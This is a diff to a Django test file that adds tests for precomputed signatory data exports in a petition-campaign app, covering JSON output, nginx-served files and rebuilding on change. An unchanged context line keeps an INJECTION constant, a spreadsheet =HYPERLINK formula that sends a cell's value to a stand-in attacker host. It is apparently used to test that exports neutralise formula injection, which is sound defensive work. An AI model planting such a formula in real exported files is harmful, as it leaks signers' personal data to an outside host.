@@ -2,19 +2,38 @@
 
 import csv
 import io
+import json
+import shutil
+from pathlib import Path
 
+from django.conf import settings
+from django.db import connection
+from django.test import override_settings
+from django.test.utils import CaptureQueriesContext
 from openpyxl import load_workbook
 
 from tests.base import PersonaTestCase, make_claims
 from undersigned.campaigns.actions import set_names_hidden
+from undersigned.campaigns.models import Campaign
 from undersigned.signatures.actions import Claims
 from undersigned.signatures.models import Signature
+from undersigned.web.exports import build_exports
 
 INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
 class DownloadViewTest(PersonaTestCase):
+    def setUp(self) -> None:
+        self.root = Path(settings.VAR_DIR) / "export-test"
+        shutil.rmtree(self.root, ignore_errors=True)
+        self.override = override_settings(EXPORT_ROOT=self.root)
+        self.override.enable()
+        self.addCleanup(self.override.disable)
+        self.addCleanup(shutil.rmtree, self.root, True)
+
     def download(self, dataset: str, fmt: str, slug: str = "deputies") -> bytes:
+        self.refresh_counts()
+        build_exports()  # the periodic job, run here synchronously
         response = self.client.get(f"/c/{slug}/data/{dataset}.{fmt}")
         assert response.status_code == 200, response
         assert f'filename="{slug}-{dataset}.{fmt}"' in response["Content-Disposition"]
@@ -93,8 +112,50 @@ class DownloadViewTest(PersonaTestCase):
         self.make_campaign("secret-draft", open_it=False)
         for url in (
             "/c/deputies/data/contacts.csv",
-            "/c/deputies/data/signatories.json",
+            "/c/deputies/data/signatories.pdf",
             "/c/nope/data/regions.csv",
             "/c/secret-draft/data/signatories.csv",
         ):
             assert self.client.get(url).status_code == 404, url
+
+    def test_json_holds_the_same_rows(self) -> None:
+        self.sign_verified(make_claims(1, "RU-IRK"))
+        rows = json.loads(self.download("signatories", "json"))
+        assert [row["full_name"] for row in rows] == [make_claims(1).full_name]
+        assert rows[0]["region_code"] == "RU-IRK"
+
+    def test_a_request_never_computes_an_export(self) -> None:
+        self.sign_verified(make_claims(1))
+        pending = self.client.get("/c/deputies/data/signatories.csv?lang=en")
+        assert pending.status_code == 503  # the job has not written it yet
+        assert "being prepared" in pending.content.decode()
+        build_exports()
+        with CaptureQueriesContext(connection) as queries:
+            response = self.client.get("/c/deputies/data/signatories.xlsx?x=1")
+        assert response.status_code == 200 and response.streaming
+        assert not any("signatures_signature" in q["sql"] for q in queries.captured_queries)
+        assert response["X-Accel-Expires"] == "0"
+
+    def test_behind_nginx_the_app_only_names_the_file(self) -> None:
+        build_exports()
+        with override_settings(EXPORT_ACCEL_PREFIX="/_exports/"):
+            response = self.client.get("/c/deputies/data/timeline.json?lang=en")
+        assert response.status_code == 200 and response.content == b""
+        assert response["X-Accel-Redirect"] == "/_exports/deputies/timeline.en.json"
+        assert response["Content-Type"] == "application/json"
+        assert 'filename="deputies-timeline.json"' in response["Content-Disposition"]
+
+    def test_files_are_written_again_only_when_something_moved(self) -> None:
+        assert build_exports() == 1
+        assert build_exports() == 0
+        self.sign_verified(make_claims(1))
+        self.refresh_counts()
+        assert build_exports() == 1
+        assert not list(self.root.glob("*/.*.tmp"))
+
+    def test_a_campaign_no_longer_public_loses_its_files(self) -> None:
+        build_exports()
+        assert (self.root / "deputies").is_dir()
+        Campaign.objects.filter(pk=self.campaign.pk).update(state=Campaign.DRAFT)
+        build_exports()
+        assert not (self.root / "deputies").exists()
